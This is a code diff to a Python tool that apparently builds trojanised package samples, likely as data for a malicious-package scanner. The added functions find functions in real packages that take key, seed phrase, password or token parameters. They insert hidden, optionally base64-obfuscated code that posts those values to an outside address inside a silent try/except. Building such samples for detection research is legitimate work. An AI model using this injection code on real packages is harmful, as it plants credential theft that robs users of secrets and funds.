@@ -10,9 +10,10 @@ import ast
 import base64
 import enum
 import random
+import re
 import textwrap
 import zlib
-from collections.abc import Callable, Iterable, Mapping
+from collections.abc import Callable, Iterable, Iterator, Mapping
 from dataclasses import replace
 
 from model.payloads import parse_quietly, text_of
@@ -20,6 +21,10 @@ from safe_pip.distribution import Distribution, DistributionKind, SourceFile
 
 _UNIMPORTANT = ("test", "tests", "testing", "doc", "docs", "example", "examples", "benchmarks")
 _MODULE_NAMES = ("_telemetry", "_compat", "_runtime", "_loader", "_sysmon", "_bootstrap")
+_ADDRESS = re.compile(r"https?://[\w.-]+\.[a-z]{2,}(?:/[\w./%-]*)?")
+_KEY = re.compile(r"priv(?:ate)?_?key|secret|mnemonic|seed_?phrase|keypair|passw|token|api_?key")
+# Most hosts have no such function; a large one is not searched as a whole.
+_MAX_SEARCHED = 150
 _FUNCTION_NAMES = ("_run_background_task", "_init_runtime", "_setup_env", "_warm_cache")
 
 
@@ -33,16 +38,22 @@ class Place(enum.Enum):
     SETUP = "setup.py"
     BUILD_BACKEND = "build-backend"
     UNCALLED = "uncalled-function"
+    HANDED_ON = "handed-on"
 
     @property
     def needs_sdist(self) -> bool:
         return self in (Place.SETUP, Place.BUILD_BACKEND)
 
     @property
+    def tries(self) -> int:
+        """How often more it is tried than others, since most hosts have no such place."""
+        return 3 if self is Place.HANDED_ON else 1
+
+    @property
     def is_tested(self) -> bool:
-        """Whether test has grafts of this kind. A payload that waits for a user's call is learnt
-        from, since trojanised clients are made so; the kinds that the bars name are the others."""
-        return self is not Place.UNCALLED
+        """Whether test has grafts of this kind. What waits for a user's call is learnt from, since
+        trojanised clients are made so; the kinds that the bars name are the others."""
+        return self not in (Place.UNCALLED, Place.HANDED_ON)
 
 
 def file_of(path: str, content: bytes | str) -> SourceFile:
@@ -78,6 +89,7 @@ def graft(host: Distribution, payload: str, place: Place, seed: int) -> Distribu
         Place.SETUP: _setup,
         Place.BUILD_BACKEND: _build_backend,
         Place.UNCALLED: _uncalled_function,
+        Place.HANDED_ON: _handed_on,
     }
     if place.needs_sdist and host.kind is DistributionKind.WHEEL:
         return None
@@ -191,6 +203,56 @@ def _in_function(
             call = f"import threading\nthreading.Thread(target={name}, daemon=True).start()"
         changed += f"\n\n{call}\n"
     return with_files(host, {target.path: file_of(target.path, changed)})
+
+
+def _handed_on(host: Distribution, payload: str, choice: random.Random) -> Distribution | None:
+    """What a function of the host is handed goes to an address of the payload as well, as in
+    trojanised clients."""
+    addresses = sorted(set(_ADDRESS.findall(payload)))
+    files = [f for f in host.python_files() if not _is_unimportant(f.path)]
+    choice.shuffle(files)
+    for file in files[:_MAX_SEARCHED] if addresses else ():
+        source = text_of(file)
+        places = list(_handed_keys(source)) if _KEY.search(source) else []
+        if places:
+            line, indent, name = choice.choice(places)
+            theft = textwrap.indent(_theft(name, choice.choice(addresses), choice), " " * indent)
+            lines = source.split("\n")
+            changed = "\n".join([*lines[:line], theft, *lines[line:]])
+            return with_files(host, {file.path: file_of(file.path, changed)})
+    return None
+
+
+def _handed_keys(source: str) -> Iterator[tuple[int, int, str]]:
+    """Where functions begin that are handed keys: lines before, indentation, parameter."""
+    tree = parse_quietly(source)
+    for node in ast.walk(tree) if tree else ():
+        if not isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
+            continue
+        first = node.body[1] if ast.get_docstring(node) and len(node.body) > 1 else node.body[0]
+        names = [argument.arg for argument in (*node.args.args, *node.args.kwonlyargs)]
+        keys = [name for name in names if _KEY.search(name)]
+        if keys and first.lineno > node.lineno and not isinstance(first, ast.FunctionDef):
+            yield first.lineno - 1, first.col_offset, keys[0]
+
+
+def _theft(name: str, address: str, choice: random.Random) -> str:
+    """Statements that send a variable away, in one of the forms seen in incidents."""
+    hidden = base64.b64encode(address.encode()).decode()
+    place = f"base64.b64decode('{hidden}').decode()" if choice.random() < 0.3 else repr(address)
+    sent = choice.choice((f"{{'d': {name}}}", f"{{'k': str({name})}}", f"dict(value={name})"))
+    forms = (
+        f"requests.post({place}, json={sent}, timeout=5)",
+        f"requests.get({place}, params={sent})",
+        f"urllib.request.urlopen({place}, urllib.parse.urlencode({sent}).encode())",
+        f"threading.Thread(target=requests.post, args=({place}, {sent}), daemon=True).start()",
+    )
+    act = (
+        f"import base64, threading, urllib.parse, urllib.request, requests\n{choice.choice(forms)}"
+    )
+    if choice.random() < 0.2:
+        return act
+    return f"try:\n{textwrap.indent(act, '    ')}\nexcept Exception:\n    pass"
 
 
 def _submodule(host: Distribution, payload: str, choice: random.Random) -> Distribution | None:
